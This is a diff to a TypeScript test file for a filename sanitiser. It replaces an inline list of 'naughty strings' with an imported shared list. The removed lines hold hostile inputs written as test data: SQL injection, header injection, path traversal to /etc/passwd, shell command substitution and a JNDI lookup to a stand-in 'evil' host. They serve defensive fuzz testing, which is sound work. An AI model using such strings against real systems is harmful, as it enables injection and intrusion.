@@ -1,32 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { seededNumbers } from '#tests/gameFiles.ts'
+import { naughtyStrings } from '#tests/naughtyStrings.ts'
 import { attachmentNamed, savedName } from './savedName.ts'
-
-/** Of each kind that the Big List of Naughty Strings has. */
-const naughty = [
-  'undefined',
-  '-1/2',
-  '\u0000\u0001\u001f\u007f\u0085',
-  'a\r\nSet-Cookie: b=c\r\n\r\n<script>',
-  '";filename=evil.exe;x="',
-  "'; drop table users; --",
-  '%0d%0aLocation:%20//evil',
-  '../../../../../etc/passwd%00',
-  String.raw`..\..\..\Windows\win.ini`,
-  '$(touch /tmp/x)`touch /tmp/x`',
-  '{0}%s%n%x${jndi:ldap://evil}',
-  '\u202etxt.exe\u2066\u200b\ufeff',
-  '\ud800',
-  'a\udfffb',
-  'Z\u0351\u036b\u0343\u032a\u0302a',
-  '👩‍👩‍👧‍👧🏳️‍🌈',
-  '田中さんにあげて下さい',
-  'الكل في المجمو عة',
-  'ß'.repeat(400),
-  'CON',
-  '.htaccess',
-  ' . . ',
-]
 
 describe('savedName', () => {
   it.each([
@@ -53,7 +28,7 @@ describe('savedName', () => {
     const drawn = Array.from({ length: 3_000 }, () =>
       String.fromCharCode(...Array.from({ length: 1 + next(12) }, () => next(next(3) === 0 ? 0x1_0000 : 0x80))),
     )
-    for (const name of [...naughty, ...drawn].flatMap((each) => [each, `${each}.zip`, `../${each}.zip`])) {
+    for (const name of [...naughtyStrings, ...drawn].flatMap((each) => [each, `${each}.zip`, `../${each}.zip`])) {
       const saved = savedName(name, 'world.bin')
       expect(saved, JSON.stringify(name)).toMatch(/^[^/\\\p{C}]{1,200}$/u)
       expect(saved).not.toMatch(/^\./)
